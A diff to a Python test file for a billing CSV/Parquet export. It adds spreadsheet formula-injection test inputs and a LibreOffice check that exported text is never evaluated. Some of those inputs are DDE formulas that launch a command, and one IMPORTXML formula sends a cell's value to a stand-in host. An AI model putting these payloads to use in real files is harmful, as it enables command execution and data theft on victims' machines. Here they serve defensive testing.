@@ -4,6 +4,8 @@ import csv
 import hashlib
 import io
 import json
+import shutil
+import subprocess
 from collections.abc import Iterator, Sequence
 from datetime import UTC, date, datetime, timedelta
 from decimal import Decimal
@@ -16,6 +18,7 @@ import pyarrow as pa
 import pyarrow.parquet as pq
 import pytest
 
+from pipelines import failpoints
 from pipelines.billing import daily_export
 from pipelines.billing.daily_export import SCHEMA, Exported, export_days, harmless, to_csv, to_parquet
 
@@ -147,7 +150,25 @@ def test_totals_are_not_rounded(marts: duckdb.DuckDBPyConnection, tmp_path: Path
     is_true(export)
 
 
-FORMULAS = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", " \n-1", '=HYPERLINK("http://x","y")', "=cmd|' /C calc'!A0"]
+FORMULAS = [
+    "=1+1",
+    "+1",
+    "-1",
+    "@SUM(A1)",
+    "\t=1",
+    " \n-1",
+    '=HYPERLINK("http://x","y")',
+    "=cmd|' /C calc'!A0",
+    "\uff1d1+1",
+    "\u00a0=1",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '=IMPORTXML(CONCAT("http://x/?v=",A1),"//a")',
+    '=DDE("cmd";"/C calc";"x")',
+    "=1;=2",
+    "\t\t=1+1",
+]
 
 
 @pytest.mark.parametrize("text", FORMULAS)
@@ -159,6 +180,20 @@ def test_a_spreadsheet_runs_nothing(marts: duckdb.DuckDBPyConnection, tmp_path: 
         assert [row[name] for name in ("tenant_id", "user_id", "model")] == [f"'{text}"] * 3
     assert in_csv(export.folder)[0]["quantity"] == "-3", "a negative number is a number"
     assert not (export.folder / "billing.csv").read_text("utf-8").splitlines()[1].startswith(tuple("=+-@"))
+
+
+@pytest.mark.skipif(shutil.which("soffice") is None, reason="needs LibreOffice")
+def test_an_office_program_calculates_nothing(marts: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
+    """Opened and saved again by the program itself, each text is still the text, none the result of a formula."""
+    for number, text in enumerate(FORMULAS):
+        used(marts, MARCH[0], number, model=text)
+    export = exported(marts, tmp_path)[MARCH[0]]
+    command = ["soffice", f"-env:UserInstallation={(tmp_path / 'office').as_uri()}", "--headless", "--convert-to"]
+    command += ["fods", "--outdir", str(tmp_path), str(export.folder / "billing.csv")]
+    subprocess.run(command, check=True, timeout=120, capture_output=True)
+    saved = (tmp_path / "billing.fods").read_text("utf-8")
+    assert "usage_date" in saved
+    assert "table:formula" not in saved
 
 
 def test_a_line_end_starts_no_cell(marts: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
@@ -297,25 +332,17 @@ def test_a_version_that_was_cut_off_is_written_again(
         exported(marts, tmp_path)
         marts.execute("UPDATE marts.mart_daily_billing SET quantity = 2")
     finished = snapshot(tmp_path)
-    steps, real = ("write_bytes", "replace"), {name: getattr(Path, name) for name in ("write_bytes", "replace")}
-    for fatal in range(1, 7):
+    for fatal in range(1, 9):  # three files, each written, synced and moved; the ninth point is the whole version
         done = 0
 
-        def dying(name: str, fatal: int = fatal) -> Any:
-            def call(path: Path, *arguments: Any) -> Any:
-                nonlocal done
-                done += 1
-                if done == fatal:
-                    if name == "write_bytes":
-                        real[name](path, arguments[0][:10])
-                    raise Killed
-                return real[name](path, *arguments)
-
-            return call
+        def dying(_: str, fatal: int = fatal) -> None:
+            nonlocal done
+            done += 1
+            if done == fatal:
+                raise Killed
 
         with monkeypatch.context() as patches:
-            for name in steps:
-                patches.setattr(Path, name, dying(name))
+            patches.setattr(failpoints, "hook", dying)
             with pytest.raises(Killed):
                 exported(marts, tmp_path)
         cut_off = tmp_path / "daily" / "usage_date=2026-03-01" / f"v{versions_before + 1:04}"
